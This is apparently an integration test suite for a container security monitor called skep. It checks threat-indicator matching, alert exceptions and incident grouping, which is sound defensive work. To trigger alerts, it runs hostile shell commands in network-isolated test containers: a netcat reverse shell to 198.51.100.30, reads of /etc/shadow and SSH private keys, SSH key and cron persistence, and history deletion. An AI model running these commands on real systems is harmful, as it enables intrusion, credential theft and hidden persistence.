// SPDX-License-Identifier: Apache-2.0
// What people tell skep to look for and to leave alone, and what it makes of many alerts: indicators,
// exceptions, incidents, with real containers.
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { after, before, describe, test } from 'node:test';

import { Lab, Skep, missing, until } from './lib.mjs';

describe('indicators, exceptions, incidents', { skip: missing() ?? false }, () => {
  const lab = new Lab();
  let skep;
  const run = (name, script, ...more) => lab.docker('run', '--rm', '--network', 'none', '--name', name, ...more, 'lab/base:1', 'sh', '-c', script);
  const alerts = (filter) => skep.list('alerts', filter);

  before(async () => {
    await lab.up();
    skep = new Skep(lab.socket, ['--no-record']);
    await skep.start();
  }, { timeout: 180000 });
  after(async () => {
    await skep?.stop();
    skep?.remove();
    await lab.down();
  });

  test('an imported address and network are found in connections, by the narrowest', async () => {
    const answer = await skep.call('POST', '/api/v1/indicators', { value: '198.51.100.7', list: 'feed', desc: 'bad', priority: 'critical' });
    assert.equal(answer.status, 201, JSON.stringify(answer.body));
    assert.equal((await skep.call('POST', '/api/v1/indicators', { value: '198.51.100.0/24', list: 'feed', priority: 'warning' })).status, 201);
    await new Promise((r) => setTimeout(r, 500));
    await run('ioc-address', 'nc -w 1 198.51.100.7 443; nc -w 1 198.51.100.9 443; true');
    const found = await until(async () => {
      const v = await alerts('engine = indicator and container.name = ioc-address');
      return v.length >= 2 && v;
    }, 4000);
    const by = Object.fromEntries(found.map((a) => [/indicator=(\S+)/.exec(a.output)[1], a]));
    assert.equal(by['198.51.100.7'].priority, 'critical');
    assert.equal(by['198.51.100.0/24'].priority, 'warning');
    assert.match(by['198.51.100.7'].output, /list=feed/);
    assert.equal(by['198.51.100.7'].container.image, 'lab/base:1');
  });

  test('an executable is known by its hash, every time it runs', async () => {
    const id = await lab.docker('create', 'lab/base:1');
    await lab.docker('cp', `${id}:/bin/busybox`, `${skep.data}/busybox`);
    await lab.docker('rm', id);
    const sha = createHash('sha256').update(readFileSync(`${skep.data}/busybox`)).digest('hex');
    assert.equal((await skep.call('POST', '/api/v1/indicators', { value: sha, list: 'hashes' })).status, 201);
    await new Promise((r) => setTimeout(r, 500));
    await run('ioc-hash', 'sleep 0.3');
    await until(async () => (await alerts('rule = "Indicator: executable" and container.name = ioc-hash')).length, 4000);
    await run('ioc-again', 'sleep 0.3');
    await until(async () => (await alerts('rule = "Indicator: executable" and container.name = ioc-again')).length, 4000);
    assert.equal((await skep.call('DELETE', '/api/v1/indicators?list=hashes')).status, 200);
    await new Promise((r) => setTimeout(r, 500));
    await run('ioc-gone', 'sleep 0.3; cat /etc/shadow >/dev/null');
    await until(async () => (await alerts('container.name = ioc-gone')).length, 4000);
    assert.equal((await alerts('engine = indicator and container.name = ioc-gone')).length, 0);
  });

  test('an exception written from an alert holds back what its preview counted, and nothing else', async () => {
    await run('exc-one', 'cat /etc/shadow >/dev/null');
    const [alert] = await until(async () => {
      const v = await alerts('rule startswith "Password hashes" and container.name = exc-one');
      return v.length && v;
    }, 4000);
    const proposal = (await skep.call('POST', `/api/v1/alerts/${alert.id}/exception`)).body;
    const preview = (await skep.call('POST', '/api/v1/exceptions/preview', { rule: proposal.rule, condition: proposal.condition })).body;
    assert.ok(preview.matched >= 1 && preview.matched <= preview.total);
    const made = await skep.call('POST', '/api/v1/exceptions', { ...proposal, reason: 'test' });
    assert.equal(made.status, 201, JSON.stringify(made.body));
    await new Promise((r) => setTimeout(r, 500));
    await run('exc-two', 'cat /etc/shadow >/dev/null; nc -w 1 127.0.0.1 9; true');
    await until(async () => (await alerts('rule startswith "Netcat" and container.name = exc-two')).length, 4000);
    assert.equal((await alerts('rule startswith "Password hashes" and container.name = exc-two')).length, 0);
    const hits = await until(async () => {
      const x = (await skep.get(`/api/v1/exceptions/${made.body.id}`)).body;
      return x.hits > 0 && x.hits;
    }, 15000);
    assert.equal(hits, 1);
  });

  test('what one container does becomes one incident with its steps in order; another stays apart', async () => {
    await run('inc-a', 'cp /bin/busybox /tmp/x; nc -w 1 198.51.100.30 4444 -e /bin/sh; ls -s /tmp >/dev/null; echo "* * * * * x" > /etc/crontabs-x; sh -c "echo x >> /root/.ssh/authorized_keys" 2>/dev/null; mkdir -p /root/.ssh; sh -c "echo x >> /root/.ssh/authorized_keys"; cat /root/.ssh/id_rsa 2>/dev/null; rm -f /root/.ash_history; true');
    const incident = await until(async () => (await skep.list('incidents', 'container.name = inc-a'))[0], 6000);
    assert.ok(incident.story.length >= 2, JSON.stringify(incident.story.map((s) => s.rule)));
    assert.ok(incident.tactics.length >= 2 && incident.risk >= 40);
    const times = incident.story.map((s) => s.time);
    assert.deepEqual(times, [...times].sort());
    for (const s of incident.story) assert.equal((await skep.get(`/api/v1/alerts/${s.alert_id}`)).body.incident_id, incident.id);
    assert.match(incident.title, /inc-a/);
    assert.equal((await skep.call('PATCH', `/api/v1/incidents/${incident.id}`, { state: 'contained', assignee: 'admin' })).status, 200);
    await run('inc-b', 'cat /etc/hostname >/dev/null');
    assert.equal((await skep.list('incidents', 'container.name = inc-b')).length, 0);
    assert.equal((await skep.get(`/api/v1/incidents/${incident.id}`)).body.state, 'contained');
  });
});
